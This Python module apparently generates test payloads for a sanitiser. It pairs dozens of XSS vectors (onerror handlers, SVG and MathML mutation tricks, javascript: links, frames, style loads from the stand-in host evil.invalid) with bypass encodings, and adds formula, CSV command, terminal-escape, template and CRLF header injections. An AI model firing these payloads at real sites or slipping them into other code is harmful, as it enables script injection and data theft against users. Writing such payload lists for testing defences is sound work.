"""Content that would act where somebody takes it for more than text: ways to act × ways to hide them.

What a way does, it does to be seen: it calls `ran(n)`, which a test hangs into the page, asks something of `FOREIGN`,
or leaves the page. `<b pwn>` before each way tells that markup became markup, even where the way itself can't act.
"""

import html
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from types import MappingProxyType

FOREIGN = "evil.invalid"  # a name that leads nowhere (RFC 6761)


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """One hostile text. `number` is what it calls `ran` with, `vector` and `encoding` its names in the tables."""

    number: int
    vector: str
    encoding: str
    text: str


#: What acts in a browser. `@` is the call of the canary, `#` the payload's number.
MARKUP: Mapping[str, str] = MappingProxyType(
    {
        "script": "<script>@</script>",
        "script from elsewhere": "<script src=//evil.invalid/#></script>",
        "module script": "<script type=module>@</script>",
        "picture that fails": "<img src=x: onerror=@>",
        "picture from elsewhere": "<img src=//evil.invalid/#>",
        "picture by srcset": "<img srcset='//evil.invalid/# 1x'>",
        "video source": "<video><source onerror=@></video>",
        "audio": "<audio src=x: onerror=@>",
        "poster": "<video poster=//evil.invalid/#>",
        "svg load": "<svg onload=@>",
        "svg script": "<svg><script>@</script></svg>",
        "svg animation": "<svg><animate onbegin=@ attributeName=x dur=1s>",
        "svg foreign object": "<svg><foreignObject><img src=x: onerror=@></foreignObject></svg>",
        "svg image": "<svg><image href=//evil.invalid/#></svg>",
        "svg link": "<svg><a href='javascript:@'><text y=9>x</text></a></svg>",
        "svg style": "<svg><style>*{background:url(//evil.invalid/#)}</style></svg>",
        "svg style that ends": "<svg></p><style><a id='</style><img src=x: onerror=@>'>",
        "mathml annotation": "<math><annotation-xml encoding=text/html><img src=x: onerror=@></annotation-xml></math>",
        "mathml table": "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=@>",
        "mathml style": "<math><style><img src=x: onerror=@></style></math>",
        "frame with a document": "<iframe srcdoc='<script>parent.@</script>'></iframe>",
        "frame with a script": "<iframe src='javascript:parent.@'></iframe>",
        "frame from elsewhere": "<iframe src=//evil.invalid/#></iframe>",
        "object": "<object data=//evil.invalid/#></object>",
        "embed": "<embed src=//evil.invalid/#>",
        "body": "<body onload=@>",
        "details": "<details open ontoggle=@>x</details>",
        "focus": "<input autofocus onfocus=@>",
        "focus by itself": "<b tabindex=1 autofocus onfocus=@>x</b>",
        "state of being shown": "<b style=content-visibility:auto oncontentvisibilityautostatechange=@>x</b>",
        "animated style": "<style>@keyframes a{}</style><b style=animation:a onanimationstart=@>x</b>",
        "imported style": "<style>@import '//evil.invalid/#';</style>",
        "linked style": "<link rel=stylesheet href=//evil.invalid/#>",
        "prefetch": "<link rel=preload as=image href=//evil.invalid/#>",
        "style of an element": "<p style='background:url(//evil.invalid/#)'>x</p>",
        "style that reads": "<style>*{list-style:url(//evil.invalid/#);display:list-item}</style>",
        "link with a script": "<a href='javascript:@'>x</a>",
        "link with tabs": "<a href='java&Tab;script:@'>x</a>",
        "form with a script": "<form action='javascript:@'><button>x</button></form>",
        "button with a script": "<form><button formaction='javascript:@'>x</button></form>",
        "form elsewhere": "<form action=//evil.invalid/#><button>x</button></form>",
        "refresh": "<meta http-equiv=refresh content='0;url=//evil.invalid/#'>",
        "base": "<base href=//evil.invalid/#/><img src=x>",
        "mutated noscript": "<noscript><p title='</noscript><img src=x: onerror=@>'>",
        "mutated textarea": "<textarea><p title='</textarea><img src=x: onerror=@>'>",
        "mutated comment": "<!--><img src=x: onerror=@>-->",
        "mutated xmp": "<xmp><p title='</xmp><img src=x: onerror=@>'>",
        "shadow root": "<div><template shadowrootmode=open><img src=x: onerror=@></template></div>",
    }
)  # fmt: skip
#: What acts elsewhere, or on our own scripts: in a terminal, a spreadsheet, a template, a line that is turned around.
OTHERS: Mapping[str, str] = MappingProxyType(
    {
        "clobbered ids": "<form id=timeline name=live data-live><input name=children></form>",
        "our own script's marks": "<time datetime=1><p data-live id=latest data-typing=1 data-events=x>x</p>",
        "rules for speculation": '<script type=speculationrules>{"prefetch":[{"urls":["//evil.invalid/#"]}]}</script>',
        "template in braces": "{{ 7919 * 7907 }}{% raw %}${7919 * 7907}<%= 7919 * 7907 %>",
        "bidirectional override": "\u202eecivres\u2066\u2067x\u061c",
        "terminal": "\x1b[31mred\x1b[2J\x1b]0;owned\x07\x9b31m\x08\r",
        "formula": '=HYPERLINK("http://evil.invalid/#","x")',
        "formula after a sign": "@SUM(1+1)*cmd|' /C calc'!A0",
        "formula after a tab": "\t=1+1",
        "line of a header": "x\r\nSet-Cookie: a=#\r\n\r\n<b>",
    }
)


def _tags(change: Callable[[str], str]) -> Callable[[str], str]:
    """A change of every tag's name."""
    return lambda text: re.sub(r"(?<=[<])/?[a-zA-Z-]+", lambda found: change(found[0]), text)


def _doubled(text: str) -> str:
    """Each tag's name holds a tag, for who takes tags away once."""
    return re.sub(r"<([a-z])([a-z]+)", r"<\1<\1\2>\2", text)


def _wide(text: str) -> str:
    """Full-width marks, which a normal form (NFKC) makes the narrow ones."""
    return text.translate({ord(one): ord(one) + 0xFEE0 for one in "<>\"'&=()"})


def _each(template: str) -> Callable[[str], str]:
    return lambda text: re.sub(r"[<>\"'&]", lambda found: template.format(ord(found[0])), text)


#: How it is written.
ENCODINGS: Mapping[str, Callable[[str], str]] = MappingProxyType(
    {
        "plain": lambda text: text,
        "out of an attribute": lambda text: f"\"'>{text}",
        "out of raw text": lambda text: f"</textarea></title></style></script>-->{text}",
        "changed case": _tags(str.swapcase),
        "named entities": html.escape,
        "decimal entities": _each("&#{};"),
        "full width": _wide,
        "a tag in a tag": _doubled,
    }
)
VECTORS: Mapping[str, str] = MappingProxyType({**MARKUP, **OTHERS})
#: The encodings that a browser undoes itself where markup is taken for markup.
DIRECT = frozenset({"plain", "out of an attribute", "out of raw text", "changed case"})


def payloads() -> tuple[Payload, ...]:
    """Every way, written in every manner that changes it."""
    pairs = [(vector, encoding) for vector in VECTORS for encoding in ENCODINGS]
    made = [
        Payload(number=number, vector=vector, encoding=encoding, text=ENCODINGS[encoding](_made(vector, number)))
        for number, (vector, encoding) in enumerate(pairs)
    ]
    return tuple({one.text: one for one in reversed(made)}.values())[::-1]


def _made(vector: str, number: int) -> str:
    template = VECTORS[vector]
    if vector in OTHERS and not template.startswith("<"):
        return template.replace("#", str(number))  # a formula is one at its cell's beginning only
    call = f"ran({number})"
    text = re.sub(r"@(?!keyframes|import)", call, template) if vector in MARKUP else template
    return f"<b pwn>{text.replace('#', str(number))}"


PAYLOADS = payloads()
